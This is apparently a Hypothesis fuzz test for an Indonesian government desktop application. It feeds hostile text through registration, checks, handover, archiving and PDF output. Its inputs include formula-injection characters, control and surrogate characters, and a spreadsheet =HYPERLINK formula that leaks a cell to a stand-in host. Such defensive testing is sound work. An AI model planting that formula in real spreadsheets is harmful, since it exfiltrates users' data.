"""Hostile text through registration, every later step and every document: each call either works or says
what is wrong (a UserError); nothing else escapes, and no document fails to print what was accepted."""
import itertools

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from tests.factories import advance, all_present, application_input
from ukpbj_desktop import services
from ukpbj_desktop.documents import paperwork
from ukpbj_desktop.documents.reports.dossier import dossier_pdf
from ukpbj_desktop.documents.reports.notices import receipt_pdf, rejection_notice_pdf
from ukpbj_desktop.documents.reports.slip import handover_slip_pdf
from ukpbj_desktop.errors import UserError
from ukpbj_desktop.required_documents import CheckedDocument

NASTY = ["\x00", "\ud800", "\udfff", "\x1b", "\u202e", "\ufeff", "=", "+", "-", "@", "\t", "\r", "\n", "'", '"',
         "<b>", "&amp;", "%s", "{n}", "\\", "NIP", "é", "ǅ", "𝔘", "中", " "]
hostile = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(exclude_categories=()), max_size=40),  # lone surrogates too
    st.lists(st.sampled_from(NASTY), max_size=30).map("".join),
    st.integers(190, 2100).map(lambda n: "Pengadaan " * (n // 10)),  # near and past the limits
    st.just("=HYPERLINK(\"http://x/?leak=\"&C2,\"klik\")"),
)
serial = itertools.count(1)


def attempt(call, *args, **kwargs):
    """The call's result, or None when it refused with a message the user can read."""
    try:
        return call(*args, **kwargs)
    except UserError as refused:
        assert refused.message()  # formats, whatever the parameters hold
        return None


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(fields=st.fixed_dictionaries({name: hostile for name in (
    "name", "position", "work_unit", "rank", "agency", "email", "address", "sk_number", "courier_name", "note",
    "reason", "receiver", "description", "box")}), valid=st.booleans())
def test_hostile_text_never_escapes_as_a_raw_error(store, fields, valid):
    n = next(serial)
    applicant = services.ApplicantInput(
        nip=f"19650705199203{1 + n // 1000}{n % 1000:03d}", name=fields["name"], position=fields["position"],
        work_unit=fields["work_unit"], rank=fields["rank"], agency=fields["agency"], email=fields["email"],
        address=fields["address"])
    data = services.ApplicationInput(applicant=applicant, delivery_mode="courier", courier_name=fields["courier_name"],
                                     sk_number=fields["sk_number"], certificate_type=fields["rank"] or None)
    app = attempt(services.submit, store, data)
    app = app or services.submit(store, application_input(nip=applicant.nip))  # refused: go on with a plain file
    receipt_pdf(paperwork.receipt(app, store))
    checked = [CheckedDocument(d.code, d.present, d.original_sighted, fields["box"]) for d in all_present(app)]
    done = attempt(services.check_completeness, store, app, checked, note=fields["note"])
    app = (done or services.check_completeness(store, app, all_present(app)))[0]
    decided = attempt(services.check_validity, store, app, valid, reasons=[fields["reason"]], note=fields["note"])
    app = decided or services.check_validity(store, app, False, reasons=["Data tidak sesuai"])
    if app.decision == "rejected":
        rejection_notice_pdf(paperwork.rejection_notice(app, store))
        app = services.reject(store, app)
    else:
        app = services.create_account(store, app, app.applicant.nip)
        services.record_slip(store, app, f"HOST{n:06d}")
        handover_slip_pdf(paperwork.slip(app, store, app.applicant.nip, "Kata@Sandi2026", "ABCDE-FGHJK"))
        app = attempt(services.hand_over, store, app, fields["receiver"]) or services.hand_over(store, app, "Budi")
    filed = attempt(services.archive, store, app, services.ArchiveInput(
        "000.3.5", fields["description"], "2026", box_no=fields["box"], room=fields["address"]))
    filed = filed or services.archive(store, app, services.ArchiveInput("000.3.5", "Berkas", "2026"))
    dossier_pdf(paperwork.dossier_data(app.id, store))


@pytest.mark.parametrize("text", ["Budi \x00Santoso", "Budi \ud800", "B" * 121])
def test_a_hostile_receiver_is_refused_at_the_handover(store, text):
    app = advance(store, services.submit(store, application_input()), "hand_over")
    with pytest.raises(UserError):
        services.hand_over(store, app, text)
